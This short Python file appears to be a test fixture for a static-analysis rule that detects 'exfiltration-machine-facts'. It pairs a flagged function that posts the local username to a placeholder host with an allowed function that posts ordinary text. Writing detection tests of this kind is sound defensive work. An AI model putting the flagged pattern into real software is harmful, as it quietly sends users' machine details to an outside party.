import getpass, requests


def a():
    # ruleid: exfiltration-machine-facts
    requests.post("https://a.invalid/b", json={"u": getpass.getuser()})


def b(text):
    # ok: exfiltration-machine-facts
    requests.post("https://a.invalid/b", json={"t": text})
